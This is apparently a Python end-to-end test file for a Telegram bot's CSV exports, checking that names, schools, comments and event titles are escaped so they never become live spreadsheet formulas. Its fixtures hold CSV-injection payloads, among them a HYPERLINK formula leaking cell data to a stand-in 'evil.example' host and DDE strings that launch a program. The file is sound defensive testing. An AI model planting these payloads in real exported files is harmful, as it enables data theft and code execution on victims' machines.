"""Files people open in a spreadsheet, through the real bot: the participants CSV and the
journal CSV. Text typed by users (names, schools, comments, event titles) never turns into a
live formula, and the participants' waitlist column numbers the waitlist only.

Built on the shipped sample events (`tests.sample`): the masterclass with the tricky title has
3 seats in Volgodonsk."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from db.models import Event
from db.reference.sample_events import SAMPLE_EVENT_CODES, TRICKY_TITLE
from db.repo import Repo
from domain.roles import Role
from handlers.event_admin import EventAdminCb
from tests.e2e.conftest import Chat, Running
from tests.e2e.flows import register
from tests.sample import load_sample_events

FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A2;"Иванова Анна")'
FORMULA_SCHOOL = "+cmd|' /C calc'!A0"
FORMULA_COMMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_COMMENT = "-2+3+cmd|' /C calc'!A0"
TAB_NAME = "\t=1+2 Петров"
CR_NAME = "\r=1+2 Сидорова"
FORMULA_TITLE = '=HYPERLINK("https://evil.example";"Вебинар")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _table(document: tuple[str, bytes] | None, filename: str) -> list[list[str]]:
    assert document is not None and document[0] == filename, document
    assert document[1].startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(document[1].decode("utf-8-sig"), newline=""), delimiter=";"))


def _assert_no_live_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(TRIGGERS), f"live formula cell {cell!r} in {row!r}"


async def _volgodonsk(running: Running) -> tuple[int, int]:
    async with running.app.sessionmaker() as session:
        repo = Repo(session)
        muni = next(m for m in await repo.reference.municipalities() if m.code == "volgodonsk")
        return muni.id, (await repo.reference.schools(muni.id))[0].id


async def _coordinator(running: Running, tg_id: int, municipality_id: int, school_id: int) -> Chat:
    chat = running.chat(tg_id, lang="en", first_name="Olga")
    await register(
        chat,
        running.emu,
        municipality_id=municipality_id,
        school_id=school_id,
        position="methodist",
        age="35_plus",
        years="20",
    )
    async with running.app.sessionmaker() as session:
        repo = Repo(session)
        row = await repo.users.by_telegram_id(tg_id)
        assert row is not None
        await repo.users.set_role(row, Role.COORDINATOR)
        await session.commit()
    running.app.dp["user_cache"].invalidate(tg_id)
    return chat


async def test_participants_csv_neutralises_formulas_and_numbers_only_the_waitlist(
    running: Running,
) -> None:
    events = await load_sample_events(running.app.sessionmaker)
    tricky = events[SAMPLE_EVENT_CODES[0]]
    assert tricky.title == TRICKY_TITLE and tricky.capacity == 3
    muni, school_id = await _volgodonsk(running)
    coord = await _coordinator(running, 8601, muni, school_id)
    names = [FORMULA_NAME, "Кузнецова Мария", TAB_NAME, CR_NAME, "Орлова Вера"]
    async with running.app.sessionmaker() as session:
        repo = Repo(session)
        typed = await repo.reference.find_or_add_school(muni, FORMULA_SCHOOL)
        now = datetime.now(UTC)
        regs = []
        for n, name in enumerate(names):
            user, _ = await repo.users.get_or_create(990_100 + n, "ru")
            await repo.users.set_fields(user, full_name=name, school_id=typed.id)
            await session.flush()
            await repo.events.sign_up(tricky.id, user.id, now, eligible=True)
            reg = await repo.events.registration(tricky.id, user.id)
            assert reg is not None
            regs.append(reg)
        await repo.events.mark_attended(regs[0], now)
        await repo.events.set_feedback(regs[0], 5, FORMULA_COMMENT, now)
        await repo.events.set_feedback(regs[1], 4, MINUS_COMMENT, now)
        await session.commit()
        statuses = [r.status for r in regs]
    assert statuses == ["attended", "confirmed", "confirmed", "waitlisted", "waitlisted"]

    await coord.send("/myevents")
    await coord.tap_data(EventAdminCb(action="card", event=tricky.id).pack())
    await coord.tap("📤 Export CSV")
    table = _table(coord.last.document, f"participants-{tricky.id}.csv")
    assert table[0][3] == "Queue number"
    rows = table[1:]
    assert [row[0] for row in rows] == [
        "'" + name if name[0] in "=\t\r" else name for name in names
    ]
    # the waitlist column: blank for the three holding a seat, 1 and 2 for the waiting two
    assert [row[3] for row in rows] == ["", "", "", "1", "2"]
    assert {row[1] for row in rows} == {"'" + FORMULA_SCHOOL}
    assert rows[0][5:] == ["5", "'" + FORMULA_COMMENT]
    assert rows[1][5:] == ["4", "'" + MINUS_COMMENT]
    _assert_no_live_formula(table)


async def test_journal_csv_neutralises_event_titles(running: Running) -> None:
    events = await load_sample_events(running.app.sessionmaker)
    tricky = events[SAMPLE_EVENT_CODES[0]]
    muni, school_id = await _volgodonsk(running)
    teacher = running.chat(8611, lang="en", first_name="Anna")
    await register(teacher, running.emu, municipality_id=muni, school_id=school_id)
    async with running.app.sessionmaker() as session:
        repo = Repo(session)
        start = datetime.now(UTC) - timedelta(days=2)
        hostile = await repo.events.add_event(
            Event(
                kind="webinar",
                title=FORMULA_TITLE,
                municipality_id=muni,
                starts_at=start,
                ends_at=start + timedelta(hours=1, minutes=30),
                online_url="https://meet.example.org/x",
                capacity=10,
                checkin_code="K7M2QX",
            )
        )
        user = await repo.users.by_telegram_id(8611)
        assert user is not None
        for event_id in (hostile.id, tricky.id):
            await repo.events.sign_up(event_id, user.id, start - timedelta(days=1), eligible=True)
            reg = await repo.events.registration(event_id, user.id)
            assert reg is not None
            await repo.events.mark_attended(reg, datetime.now(UTC))
        await session.commit()

    await teacher.send("/journal")
    table = _table(teacher.last.document, "journal.csv")
    by_title = {row[1]: row for row in table[1:]}
    assert set(by_title) == {"'" + FORMULA_TITLE, TRICKY_TITLE}
    assert by_title["'" + FORMULA_TITLE][3] == "1,5"  # a number stays a number
    _assert_no_live_formula(table)
